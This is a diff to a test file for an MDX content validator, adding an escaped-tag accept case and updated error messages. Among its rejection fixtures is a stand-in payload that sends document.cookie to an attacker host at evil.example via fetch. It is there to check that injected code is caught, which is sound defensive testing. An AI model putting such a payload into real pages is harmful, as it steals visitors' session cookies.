@@ -7,6 +7,7 @@ describe('findUnsafeMdx', () => {
     ['paragraphs, emphasis, lists and links', 'A **strong** note with `code`.\n\n- one\n- two\n\n[project](https://example.org)\n'],
     ['a GFM table and strikethrough, as the site renders them', '| model | score |\n| --- | --- |\n| a | ~~1~~ 2 |\n'],
     ['an escaped brace and a less-than sign followed by a space', 'Sets \\{a, b\\}; 3 < 4.\n'],
+    ['an escaped tag-like text', 'The \\<image> token.\n'],
     ['code blocks holding JSX and imports', '```tsx\nimport x from "y";\n<Foo bar={1} />\n```\n'],
     ['inline code holding an expression', 'Write `{x}` to interpolate.\n'],
   ])('accepts %s', (_, body) => {
@@ -16,11 +17,17 @@ describe('findUnsafeMdx', () => {
   it.each([
     ['an import', 'Intro.\n\nimport Chart from "./chart.js"\n', 3, 'import/export statements are not allowed in an entry'],
     ['an export', 'export const score = 1\n', 1, 'import/export statements are not allowed in an entry'],
-    ['a JSX block element', 'Intro.\n\n<Chart data="x" />\n', 3, 'JSX/HTML element <Chart> is not allowed in an entry (use Markdown)'],
-    ['an inline HTML element', 'Intro.\n\nA <b>bold</b> claim.\n', 3, 'JSX/HTML element <b> is not allowed in an entry (use Markdown)'],
-    ['a fragment', '<>hidden</>\n', 1, 'JSX/HTML element <> is not allowed in an entry (use Markdown)'],
+    ['a JSX block element', 'Intro.\n\n<Chart data="x" />\n', 3, 'JSX/HTML element <Chart> is not allowed in an entry (use Markdown; write \\< for a literal <)'],
+    ['an inline HTML element', 'Intro.\n\nA <b>bold</b> claim.\n', 3, 'JSX/HTML element <b> is not allowed in an entry (use Markdown; write \\< for a literal <)'],
+    ['a fragment', '<>hidden</>\n', 1, 'JSX/HTML element <> is not allowed in an entry (use Markdown; write \\< for a literal <)'],
     ['a block expression', '\n{fetch("https://evil.example")}\n', 2, 'expression {fetch("https://evil.example")} is not allowed in an entry (write \\{ for a literal brace)'],
     ['an inline expression', 'Score: {1 + 1}.\n', 1, 'expression {1 + 1} is not allowed in an entry (write \\{ for a literal brace)'],
+    [
+      'a long multi-line expression, shown on one line and shortened',
+      'Intro.\n\n{\n  await fetch("https://evil.example/collect?data=" + document.cookie)\n}\n',
+      3,
+      'expression {await fetch("https://evil.example/colle…} is not allowed in an entry (write \\{ for a literal brace)',
+    ],
   ])('rejects %s, at its line', (_, body, line, message) => {
     expect(findUnsafeMdx(body)).toEqual([{ line, message }]);
   });
